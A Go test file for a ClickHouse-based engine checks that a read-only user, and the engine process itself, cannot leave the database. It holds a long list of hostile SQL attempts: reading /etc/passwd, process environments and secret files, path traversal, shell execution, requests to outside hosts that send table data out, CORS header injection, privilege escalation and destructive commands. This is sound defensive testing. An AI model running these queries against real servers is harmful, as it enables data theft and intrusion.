package engine_test

import (
	"context"
	"crypto/rand"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/ClickHouse/clickhouse-go/v2"

	"github.com/warpline/warpline/sink/engine"
	"github.com/warpline/warpline/sink/engine/enginetest"
)

// prey is an engine and what lies around it that no query may reach.
type prey struct {
	*testing.T
	e       *engine.Engine
	outside string       // a folder beside the engine's
	canary  string       // the text of its files, of the secrets and of this process's environment
	before  string       // what outside held at the start
	asked   atomic.Int64 // connections to, and datagrams for, addresses that nobody may be made to ask
	web     string       // such an address, host:port
}

func newPrey(t *testing.T) *prey {
	t.Helper()
	top := t.TempDir()
	p := &prey{T: t, outside: filepath.Join(top, "outside"), canary: "canary-" + rand.Text()}
	t.Setenv("WARPLINE_TEST_SECRET", p.canary)
	secrets := filepath.Join(top, "secrets")
	for _, dir := range []string{p.outside, secrets} {
		if err := os.Mkdir(dir, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for _, path := range []string{"outside/file", "outside/file.csv", "outside/file.json", "outside/schema.proto", "outside/schema.capnp",
		"secrets/nats-token", "secrets/key"} {
		if err := os.WriteFile(filepath.Join(top, path), []byte(p.canary+"\n"), 0o666); err != nil {
			t.Fatal(err)
		}
	}
	ctx, cancel := context.WithTimeout(t.Context(), 10*time.Minute) // the first start ever fetches the library
	defer cancel()
	var err error
	if p.e, err = engine.Start(ctx, engine.Config{Dir: filepath.Join(top, "engine"), Secrets: secrets, Progress: os.Stderr}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
		defer cancel()
		_ = p.e.Stop(ctx) // it has only to be gone
	})
	for _, dir := range []string{"", "user_files", "format_schemas"} { // as if somebody had put a way out there
		dir = filepath.Join(p.e.Dir(), "data", dir)
		if err := os.MkdirAll(dir, 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(filepath.Join(p.outside, "file"), filepath.Join(dir, "link")); err != nil {
			t.Fatal(err)
		}
	}
	must(t, p.e, "CREATE DATABASE warpline")
	must(t, p.e, "CREATE TABLE warpline.t (tenant String, a UInt64) ENGINE = MergeTree ORDER BY a")
	must(t, p.e, "INSERT INTO warpline.t SELECT 'theirs', number FROM numbers(5)")
	must(t, p.e, "CREATE DATABASE elsewhere")
	must(t, p.e, "CREATE TABLE elsewhere.t (s String) ENGINE = MergeTree ORDER BY s")
	must(t, p.e, "INSERT INTO elsewhere.t VALUES ('"+p.canary+"')")
	p.listen()
	p.before = p.look()
	return p
}

// listen waits for connections and datagrams on loopback that no query may cause.
func (p *prey) listen() {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		p.Fatal(err)
	}
	p.web = l.Addr().String()
	u, err := net.ListenPacket("udp", p.web)
	if err != nil {
		p.Fatal(err)
	}
	unix, err := net.Listen("unix", filepath.Join(p.outside, "socket"))
	if err != nil {
		p.Fatal(err)
	}
	for _, l := range []net.Listener{l, unix} {
		p.Cleanup(func() { l.Close() })
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				p.asked.Add(1)
				_, _ = io.WriteString(c, "HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nhi\n") // it has asked, whether it hears or not
				c.Close()
			}
		}()
	}
	p.Cleanup(func() { u.Close() })
	go func() {
		for b := make([]byte, 1500); ; {
			if _, _, err := u.ReadFrom(b); err != nil {
				return
			}
			p.asked.Add(1)
		}
	}()
}

// look is everything in the folder outside, with its content.
func (p *prey) look() string {
	var all strings.Builder
	err := filepath.WalkDir(p.outside, func(path string, e os.DirEntry, err error) error {
		if err != nil || !e.Type().IsRegular() {
			fmt.Fprintln(&all, path, err)
			return err
		}
		b, err := os.ReadFile(path)
		fmt.Fprintln(&all, path, string(b), err)
		return err
	})
	if err != nil {
		p.Fatal(err)
	}
	return all.String()
}

// attempt is one query, with what a page or a driver may add to it.
type attempt struct {
	sql    string
	params string // of the HTTP form: what may come in the address
}

// fill puts paths and addresses into a text.
func (p *prey) fill(s string) string {
	return strings.NewReplacer(
		"{file}", filepath.Join(p.outside, "file"), "{out}", p.outside, "{new}", filepath.Join(p.outside, "new"),
		"{writer}", filepath.Join(filepath.Dir(p.outside), "secrets", engine.WriterSecret), "{nats}",
		filepath.Join(filepath.Dir(p.outside), "secrets", "nats-token"),
		"{data}", filepath.Join(p.e.Dir(), "data"), "{engine}", p.e.Dir(), "{web}", p.web, "{port}", p.web[strings.LastIndexByte(p.web, ':')+1:],
		"{http}", p.e.HTTPAddr(), "{tcp}", p.e.TCPAddr()).Replace(s)
}

// overHTTP sends the attempt as a browser on another site would, and returns all that comes back.
func (p *prey) overHTTP(a attempt, user, password, origin string) (status int, header http.Header, said string) {
	ctx, cancel := context.WithTimeout(p.Context(), 60*time.Second)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+p.e.HTTPAddr()+"/?"+p.fill(a.params),
		strings.NewReader(p.fill(a.sql)))
	if err != nil {
		p.Fatal(err)
	}
	if user != "" {
		req.SetBasicAuth(user, password)
	}
	if origin != "" {
		req.Header.Set("Origin", origin)
		req.Host = strings.TrimPrefix(origin, "http://") // a name that its owner let point to loopback
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return 0, nil, err.Error()
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(io.LimitReader(resp.Body, 16<<20))
	return resp.StatusCode, resp.Header, fmt.Sprint(resp.Header, string(body), err)
}

// natively runs the attempt over the native protocol; params become settings.
func (p *prey) natively(a attempt, user, password string) (string, error) {
	ctx, cancel := context.WithTimeout(p.Context(), 60*time.Second)
	defer cancel()
	conn, err := clickhouse.Open(&clickhouse.Options{Addr: []string{p.e.TCPAddr()}, Auth: clickhouse.Auth{Username: user, Password: password},
		MaxOpenConns: 1})
	if err != nil {
		return "", err
	}
	defer conn.Close()
	settings := clickhouse.Settings{}
	values, err := url.ParseQuery(p.fill(a.params))
	if err != nil {
		p.Fatal(err)
	}
	for name := range values {
		if !slices.Contains([]string{"query", "database", "param_x", "buffer_size", "wait_end_of_query"}, name) {
			settings[name] = clickhouse.CustomSetting{Value: values.Get(name)}
			if name != "" {
				settings[name] = values.Get(name)
			}
		}
	}
	rows, err := conn.Query(clickhouse.Context(ctx, clickhouse.WithSettings(settings)), p.fill(a.sql))
	if err != nil {
		return "", err
	}
	defer rows.Close()
	var all strings.Builder
	for rows.Next() {
		cells := make([]any, len(rows.ColumnTypes()))
		for i, c := range rows.ColumnTypes() {
			cells[i] = new(any)
			if strings.Contains(c.DatabaseTypeName(), "String") {
				cells[i] = new(string)
			}
		}
		if err := rows.Scan(cells...); err != nil {
			fmt.Fprintln(&all, err)
			break
		}
		for _, c := range cells {
			if s, ok := c.(*string); ok {
				fmt.Fprint(&all, *s, "\t")
			}
		}
	}
	return all.String(), rows.Err()
}

// secrets are texts that no answer may hold.
func (p *prey) secrets() map[string]string {
	return map[string]string{"the canary": p.canary, "/etc/passwd": "root:x:0", "the writer's password": p.e.Password(),
		"the reader's password": p.e.ReaderPassword()}
}

// attempts are the ways out of the database that are known, and some that are not yet: of each kind a few, so that a kind which a new
// engine opens shows.
var attempts = []attempt{
	// files, by functions and table functions
	{sql: "SELECT file('{file}')"},
	{sql: "SELECT file('{writer}')"},
	{sql: "SELECT file('{nats}')"},
	{sql: "SELECT file('/etc/passwd')"},
	{sql: "SELECT file('/proc/self/environ')"},
	{sql: "SELECT file('/proc/self/root{file}')"},
	{sql: "SELECT file('/proc/self/cwd/../../../../../../../../../../{file}')"},
	{sql: "SELECT file('{data}/link')"},
	{sql: "SELECT file('link')"},
	{sql: "SELECT file('{data}/user_files/link')"},
	{sql: "SELECT file('../../outside/file')"},
	{sql: "SELECT file('{data}/../../outside/file', 'nothing')"},
	{sql: "SELECT file('{engine}/logs/engine.log')"},
	{sql: "SELECT throwIf(file('{file}') LIKE 'canary%', file('{file}'))"},
	{sql: "SELECT * FROM file('{file}', 'LineAsString')"},
	{sql: "SELECT * FROM file('{out}/*', 'LineAsString', 's String')"},
	{sql: "SELECT * FROM file('{out}/*', 'One')"},
	{sql: "SELECT _path FROM file('{out}/**', 'RawBLOB')"},
	{sql: "DESCRIBE TABLE file('{out}/file.csv')"},
	{sql: "SELECT * FROM fileCluster('default', '{file}', 'LineAsString')"},
	{sql: "SELECT * FROM filesystem('{out}')"},
	{sql: "SELECT * FROM `{file}`"},
	{sql: "SELECT * FROM sqlite('{file}', 't')"},
	{sql: "SELECT * FROM executable('cat {file}', 'LineAsString', 'x String')"},
	{sql: "SELECT * FROM executable('link', 'LineAsString', 'x String')"},
	{sql: "SELECT * FROM input('x String')"},
	{sql: "SELECT * FROM icebergLocal('{out}')"},
	{sql: "SELECT * FROM deltaLakeLocal('{out}')"},
	{sql: "SELECT * FROM paimonLocal('{out}')"},
	{sql: "SELECT * FROM mergeTreeTextIndex('{file}', 't', 'i')"},
	{sql: "INSERT INTO FUNCTION file('{new}', 'TSV', 'x UInt8') SELECT 1"},
	{sql: "INSERT INTO warpline.t FROM INFILE '{file}' FORMAT TSV"},
	{sql: "SELECT 1 INTO OUTFILE '{new}'"},
	{sql: "SELECT 1 INTO OUTFILE '{file}' TRUNCATE"},
	// formats and settings that name a file, in the query and beside it
	{sql: "SELECT 1 FORMAT Template SETTINGS format_template_resultset = '{file}'"},
	{sql: "SELECT 1 FORMAT Template SETTINGS format_template_row = '{file}'"},
	{sql: "SELECT 1 FORMAT Template", params: "format_template_resultset={file}"},
	{sql: "SELECT 1 FORMAT Template", params: "format_template_row={writer}"},
	{sql: "SELECT 1 FORMAT CustomSeparated", params: "format_custom_result_before_delimiter={file}&format_template_row={file}"},
	{sql: "SELECT 1 FORMAT Protobuf SETTINGS output_format_schema = '{new}.proto'"},
	{sql: "SELECT 1 FORMAT Protobuf SETTINGS output_format_schema = '{file}', format_schema = 'x:y'"},
	{sql: "SELECT 1 FORMAT Protobuf", params: "output_format_schema={file}"},
	{sql: "SELECT 1 FORMAT CapnProto", params: "output_format_schema={new}.capnp"},
	{sql: "SELECT 1 FORMAT Protobuf", params: "format_schema={out}/schema:m"},
	{sql: "SELECT 1 FORMAT Protobuf SETTINGS format_schema = '../../../outside/schema:m'"},
	{sql: "SELECT 1 FORMAT CapnProto SETTINGS format_schema = '{out}/schema.capnp:m'"},
	{sql: "SELECT * FROM format(Protobuf, 'x') SETTINGS format_schema = '{out}/schema:m'"},
	{sql: "SELECT * FROM format(Template, 'x') SETTINGS format_template_row = '{file}'"},
	{sql: "SELECT * FROM format(Protobuf, 'x') SETTINGS format_schema_source = 'query', format_schema = 'SELECT file(''{file}'')'"},
	{sql: "SELECT * FROM format(LineAsString, file('{file}'))"},
	{sql: "SELECT formatRow('Template', 1) SETTINGS format_template_row = '{file}'"},
	{sql: "SELECT formatRow('Protobuf', 1) SETTINGS output_format_schema = '{new}'"},
	{sql: "SELECT structureToProtobufSchema('a UInt8'), structureToCapnProtoSchema('a UInt8')"},
	{sql: "SELECT 1 FORMAT Avro SETTINGS output_format_avro_codec = '{file}'"},
	{sql: "SELECT 1 SETTINGS google_protos_path = '{out}'"},
	{sql: "SELECT 1", params: "format_schema_path={out}&user_files_path={out}"},
	{sql: "SELECT 1 SETTINGS temporary_files_codec = '{file}', disk = '{out}'"},
	// hosts
	{sql: "SELECT * FROM url('http://{web}/', 'LineAsString')"},
	{sql: "SELECT * FROM urlCluster('default', 'http://{web}/', 'LineAsString')"},
	{sql: "INSERT INTO FUNCTION url('http://{web}/', 'TSV', 'x String') SELECT tenant FROM warpline.t"},
	{sql: "SELECT * FROM s3('http://{web}/b/k', 'LineAsString')"},
	{sql: "SELECT * FROM s3Cluster('default', 'http://{web}/b/k', 'LineAsString')"},
	{sql: "SELECT * FROM gcs('http://{web}/b/k', 'LineAsString')"},
	{sql: "SELECT * FROM azureBlobStorage('DefaultEndpointsProtocol=http;AccountName=a;AccountKey=YQ==;BlobEndpoint=http://{web}/a;', 'c', " +
		"'b', 'LineAsString')"},
	{sql: "SELECT * FROM hdfs('hdfs://{web}/f', 'LineAsString')"},
	{sql: "SELECT * FROM iceberg('http://{web}/b/k')"},
	{sql: "SELECT * FROM icebergS3('http://{web}/b/k')"},
	{sql: "SELECT * FROM deltaLake('http://{web}/b/k')"},
	{sql: "SELECT * FROM hudi('http://{web}/b/k')"},
	{sql: "SELECT * FROM remote('{web}', 'warpline', 't')"},
	{sql: "SELECT * FROM remote('{tcp}', 'elsewhere', 't', 'default', '')"},
	{sql: "SELECT * FROM remoteSecure('{web}', 'warpline', 't')"},
	{sql: "SELECT * FROM cluster('default', 'elsewhere', 't')"},
	{sql: "SELECT * FROM mysql('{web}', 'd', 't', 'u', 'p')"},
	{sql: "SELECT * FROM postgresql('{web}', 'd', 't', 'u', 'p')"},
	{sql: "SELECT * FROM mongodb('{web}', 'd', 'c', 'u', 'p', 'a String')"},
	{sql: "SELECT * FROM redis('{web}', 'k', 'k String')"},
	{sql: "SELECT * FROM jdbc('jdbc:sqlite:{file}', 't')"},
	{sql: "SELECT * FROM odbc('DSN=x', 'd', 't')"},
	{sql: "SELECT * FROM arrowFlight('{web}', 'd')"},
	{sql: "SELECT * FROM prometheusQuery('d', 't', 'up', now())"},
	{sql: "SELECT * FROM ytsaurus('http://{web}', '//t', 'x', 'a String')"},
	{sql: "SELECT * FROM format(AvroConfluent, '\\0\\0\\0\\0\\1x') SETTINGS format_avro_schema_registry_url = 'http://{web}'"},
	{sql: "SELECT * FROM format(AvroConfluent, 'a String', '\\0\\0\\0\\0\\1x')", params: "format_avro_schema_registry_url=http://{web}"},
	{sql: "SELECT * FROM format(AvroConfluent, 'a String', unhex('000000000178'))",
		params: "format_avro_schema_registry_url=http://localhost:{port}"},
	{sql: "SELECT aiGenerateContent('http://{web}', 'x')"},
	{sql: "SELECT 1 SETTINGS opentelemetry_start_trace_probability = 1, storage_file_read_method = 'mmap', " +
		"stop_refreshable_materialized_views_on_startup = 1"},
	{sql: "SELECT catboostEvaluate('{file}', 1)"},
	{sql: "SELECT hostName(), dictGet('http://{web}', 'a', 1)"},
	{sql: "SELECT * FROM dictionary('d')"},
	{sql: "SELECT dnsResolve('{web}'), reverseDNSQuery('127.0.0.1')"},
	// pages of other sites
	{sql: "SELECT * FROM warpline.t", params: "add_http_cors_header=1"},
	{sql: "SELECT * FROM warpline.t SETTINGS add_http_cors_header = 1"},
	{sql: "SELECT 1", params: "http_response_headers={%27Access-Control-Allow-Origin%27:%27*%27}"},
	{sql: "SELECT 1 SETTINGS http_response_headers = map('Access-Control-Allow-Origin', '*')"},
	// more rights, fewer bounds
	{sql: "SET readonly = 0"},
	{sql: "SELECT 1", params: "readonly=0"},
	{sql: "SELECT * FROM elsewhere.t SETTINGS readonly = 0"},
	{sql: "SELECT 1 SETTINGS max_memory_usage = 0, max_memory_usage_for_user = 0"},
	{sql: "SELECT 1 SETTINGS max_concurrent_queries_for_user = 0"},
	{sql: "SELECT 1 SETTINGS max_execution_time = 0"},
	{sql: "SELECT 1", params: "max_execution_time=1000000"},
	{sql: "SELECT 1 SETTINGS max_threads = 1000"},
	{sql: "SELECT 1 SETTINGS output_format_parallel_formatting = 1"},
	{sql: "SELECT 1", params: "profile=writer"},
	{sql: "SELECT 1", params: "compatibility=20.1"},
	{sql: "SET ROLE ALL"},
	{sql: "SET DEFAULT ROLE ALL TO reader"},
	{sql: "EXECUTE AS warpline SELECT * FROM elsewhere.t"},
	{sql: "GRANT ALL ON *.* TO reader"},
	{sql: "ALTER USER reader IDENTIFIED BY 'x'"},
	{sql: "CREATE USER thief IDENTIFIED WITH no_password"},
	{sql: "CREATE ROLE thief"},
	{sql: "CREATE SETTINGS PROFILE thief SETTINGS readonly = 0 TO reader"},
	{sql: "CREATE NAMED COLLECTION c AS url = 'http://{web}'"},
	{sql: "CREATE FUNCTION f AS (x) -> file(x)"},
	{sql: "CREATE WORKLOAD w"},
	// writing, and what stands around the tables
	{sql: "INSERT INTO warpline.t VALUES ('mine', 9)"},
	{sql: "CREATE TABLE warpline.u (a String) ENGINE = File(TSV, '{file}')"},
	{sql: "CREATE TABLE warpline.u (a String) ENGINE = URL('http://{web}/', TSV)"},
	{sql: "CREATE TEMPORARY TABLE u (a String) ENGINE = File(TSV)"},
	{sql: "CREATE TEMPORARY TABLE u (a String) ENGINE = Memory"},
	{sql: "CREATE DATABASE u ENGINE = Filesystem('{out}')"},
	{sql: "CREATE DATABASE u ENGINE = SQLite('{new}')"},
	{sql: "CREATE DATABASE u ENGINE = MySQL('{web}', 'd', 'u', 'p')"},
	{sql: "CREATE DATABASE u ENGINE = Backup('warpline', File('{out}'))"},
	{sql: "CREATE DICTIONARY warpline.d (k UInt64, v String) PRIMARY KEY k SOURCE(FILE(path '{file}' format 'TSV')) LAYOUT(FLAT()) " +
		"LIFETIME(0)"},
	{sql: "CREATE DICTIONARY warpline.d (k UInt64, v String) PRIMARY KEY k SOURCE(HTTP(url 'http://{web}/' format 'TSV')) LAYOUT(FLAT()) " +
		"LIFETIME(0)"},
	{sql: "CREATE VIEW warpline.v AS SELECT file('{file}')"},
	{sql: "CREATE MATERIALIZED VIEW warpline.v ENGINE = URL('http://{web}/', TSV) AS SELECT * FROM warpline.t"},
	{sql: "ATTACH TABLE warpline.u FROM '{out}' (a String) ENGINE = MergeTree ORDER BY a"},
	{sql: "ATTACH DATABASE u"},
	{sql: "DETACH TABLE warpline.t PERMANENTLY"},
	{sql: "DROP TABLE warpline.t"},
	{sql: "TRUNCATE TABLE warpline.t"},
	{sql: "RENAME TABLE warpline.t TO warpline.u"},
	{sql: "ALTER TABLE warpline.t DELETE WHERE 1"},
	{sql: "ALTER TABLE warpline.t EXPORT PART 'all_1_1_0' TO TABLE elsewhere.t"},
	{sql: "ALTER TABLE warpline.t FREEZE"},
	{sql: "ALTER TABLE warpline.t FETCH PARTITION tuple() FROM '/x'"},
	{sql: "DELETE FROM warpline.t WHERE 1"},
	{sql: "OPTIMIZE TABLE warpline.t FINAL"},
	{sql: "BACKUP TABLE warpline.t TO File('{new}')"},
	{sql: "BACKUP TABLE warpline.t TO S3('http://{web}/b/k', 'a', 'b')"},
	{sql: "RESTORE TABLE warpline.u FROM File('{out}')"},
	{sql: "SYSTEM SHUTDOWN"},
	{sql: "SYSTEM STOP LISTEN HTTP"},
	{sql: "SYSTEM STOP MERGES"},
	{sql: "SYSTEM RELOAD CONFIG"},
	{sql: "SYSTEM ENABLE FAILPOINT x"},
	{sql: "SYSTEM DROP FORMAT SCHEMA CACHE"},
	{sql: "KILL QUERY WHERE user = 'warpline' SYNC"},
	{sql: "KILL MUTATION WHERE 1"},
	{sql: "SELECT * FROM elsewhere.t"},
	{sql: "SELECT * FROM merge(REGEXP('.*'), 't')"},
	{sql: "SELECT * FROM loop(elsewhere.t)"},
	{sql: "SELECT * FROM mergeTreeIndex(elsewhere, t)"},
	{sql: "SELECT * FROM viewIfPermitted(SELECT s FROM elsewhere.t ELSE null('s String'))"},
	{sql: "SELECT hasColumnInTable('elsewhere', 't', 's'), joinGet('elsewhere.t', 's', 1)"},
	{sql: "SELECT * FROM information_schema.tables WHERE table_schema = 'elsewhere' AND throwIf(1, '" + "x')"},
	{sql: "SELECT * FROM system.users"},
	{sql: "SELECT * FROM system.processes"},
	{sql: "SELECT * FROM system.query_log"},
	{sql: "SELECT * FROM system.text_log"},
	{sql: "SELECT * FROM system.server_settings"},
	{sql: "SELECT * FROM system.named_collections"},
	{sql: "SELECT * FROM system.stack_trace"},
	{sql: "SELECT * FROM system.disks"},
	{sql: "SELECT * FROM system.zookeeper WHERE path = '/'"},
	{sql: "SELECT * FROM system.tables"},
	{sql: "SELECT * FROM system.columns WHERE database = 'elsewhere'"},
	{sql: "SHOW ACCESS"},
	{sql: "SHOW CREATE USER warpline"},
	{sql: "SHOW GRANTS FOR warpline"},
	{sql: "SHOW CREATE TABLE elsewhere.t"},
	{sql: "SELECT getSetting('x'), getServerSetting('path'), getMacro('x'), demangle('x'), addressToLine(1)"},
	{sql: "EXPLAIN PLAN SELECT * FROM elsewhere.t"},
	{sql: "CHECK TABLE elsewhere.t"},
	{sql: "EXISTS TABLE elsewhere.t"},
	{sql: "WATCH warpline.t"},
	{sql: "EXECUTE UNDROP TABLE warpline.t"},
}

// Whoever may only ask cannot leave the database: nothing outside it is read, written or asked, by neither user, over neither protocol,
// and not by a page of another site in somebody's browser.
func TestReaderCannotLeaveTheDatabase(t *testing.T) {
	enginetest.Need(t)
	if len(attempts) < 60 {
		t.Fatalf("%d attempts", len(attempts))
	}
	p := newPrey(t)
	if why := p.e.Unconfined(); why != "" {
		t.Skip("this kernel cannot confine a process, which is said at start: " + why)
	}
	const evil = "http://evil.example"
	for _, user := range []struct{ name, password string }{{"default", ""}, {engine.Reader, p.e.ReaderPassword()}, {"", ""},
		{engine.Writer, ""}, {engine.Reader, ""}} {
		for _, a := range attempts {
			how := fmt.Sprintf("%q: %s ? %s", user.name, p.fill(a.sql), p.fill(a.params))
			said := map[string]string{}
			var status int
			var header http.Header
			for protocol, origin := range map[string]string{"HTTP": "", "a page of another site": evil} {
				status, header, said[protocol] = p.overHTTP(a, user.name, user.password, origin)
				if status == http.StatusOK && (user.name != engine.Reader || user.password == "") {
					t.Errorf("%s is answered by %s: %.300s", how, protocol, said[protocol])
				}
				if header.Get("Access-Control-Allow-Origin") != "" { // the one by which a browser lets a page read
					t.Errorf("%s is shown to pages of %q", how, header.Get("Access-Control-Allow-Origin"))
				}
			}
			if user.password != "" || user.name == "default" { // the others do not get as far
				got, err := p.natively(a, user.name, user.password)
				said["native"] = fmt.Sprint(got, err)
				if err == nil && user.name == "default" {
					t.Errorf("%s is answered natively: %.300s", how, got)
				}
			}
			for protocol, text := range said {
				for what, secret := range p.secrets() {
					if strings.Contains(text, secret) {
						t.Errorf("%s by %s shows %s: %.600s", how, protocol, what, text)
					}
				}
			}
		}
	}
	p.unharmed()
	want(t, "the tables afterwards", must(t, p.e, "SELECT count(), sum(a), any(tenant) FROM warpline.t"), "5\t10\ttheirs")
	want(t, "users", must(t, p.e, "SELECT arrayStringConcat(groupArray(name), ',') FROM (SELECT name FROM system.users ORDER BY name)"),
		"default,reader,warpline")
	want(t, "databases", must(t, p.e, "SELECT count() FROM system.tables WHERE database IN ('warpline', 'elsewhere', 'u')"), "2")
}

// unharmed fails the test when something outside was written or asked.
func (p *prey) unharmed() {
	p.Helper()
	if now := p.look(); now != p.before {
		p.Errorf("files outside were\n%s\nand are\n%s", p.before, now)
	}
	if n := p.asked.Load(); n != 0 {
		p.Errorf("others were asked %d times", n)
	}
}

// The fence holds without the users: the writer, who has every right, gets no further, so that what a new engine forgets to ask a right
// for leads nowhere.
func TestEngineIsConfined(t *testing.T) {
	enginetest.Need(t)
	p := newPrey(t)
	if why := p.e.Unconfined(); why != "" {
		t.Skip("this kernel cannot confine a process: " + why)
	}
	const quick = " SETTINGS http_max_tries = 1, http_connection_timeout = 1, connect_timeout = 1, s3_max_connections = 1, " +
		"s3_retry_attempts = 0"
	for _, sql := range []string{
		"SELECT file('{file}')",
		"SELECT file('{writer}')",
		"SELECT file('{nats}')",
		"SELECT file('/etc/passwd')",
		"SELECT file('/proc/self/environ')",
		"SELECT file('/proc/self/root{file}')",
		"SELECT file('/proc/{parent}/environ')",
		"SELECT file('/proc/{parent}/cmdline')",
		"SELECT file('{data}/link')",
		"SELECT file('{engine}/logs/child.log')",
		"SELECT * FROM file('{file}', 'LineAsString')",
		"SELECT * FROM file('{out}/*', 'One')",
		"SELECT * FROM file('/proc/self/fd/*', 'LineAsString')",
		"SELECT * FROM sqlite('{file}', 't')",
		"SELECT * FROM executable('cat {file}', 'LineAsString', 'x String')",
		"INSERT INTO FUNCTION file('{new}', 'TSV', 'x UInt8') SELECT 1",
		"INSERT INTO FUNCTION file('{file}', 'TSV', 'x UInt8') SETTINGS engine_file_truncate_on_insert = 1 SELECT 1",
		"SELECT 1 FORMAT Protobuf SETTINGS output_format_schema = '{new}.proto'",
		"SELECT 1 FORMAT Protobuf SETTINGS output_format_schema = '{file}'",
		"SELECT 1 FORMAT Template SETTINGS format_template_resultset = '{file}'",
		"CREATE DATABASE u ENGINE = SQLite('{new}')",
		"BACKUP TABLE warpline.t TO File('{new}')",
		"SELECT * FROM url('http://{web}/', 'LineAsString')" + quick,
		"SELECT * FROM url('http://localhost:{port}/', 'LineAsString')" + quick,
		"SELECT * FROM format(AvroConfluent, 'a String', unhex('000000000178')) SETTINGS format_avro_schema_registry_url = 'http://{web}', " +
			"http_max_tries = 1",
		"SELECT * FROM remote('{web}', 'warpline', 't')" + quick,
		"SELECT * FROM mysql('{web}', 'd', 't', 'u', 'p')" + quick,
		"SELECT * FROM postgresql('{web}', 'd', 't', 'u', 'p')" + quick,
		"SELECT * FROM redis('{web}', 'k', 'k String')" + quick,
	} {
		sql = strings.ReplaceAll(sql, "{parent}", fmt.Sprint(os.Getpid()))
		_, _, said := p.overHTTP(attempt{sql: sql}, p.e.User(), p.e.Password(), "")
		for what, secret := range p.secrets() {
			if strings.Contains(said, secret) {
				t.Errorf("%s shows %s: %.600s", sql, what, said)
			}
		}
		if strings.Contains(sql, "/cmdline") && strings.Contains(said, "-test.") {
			t.Errorf("%s shows the parent's arguments: %.300s", sql, said)
		}
	}
	p.unharmed()
}
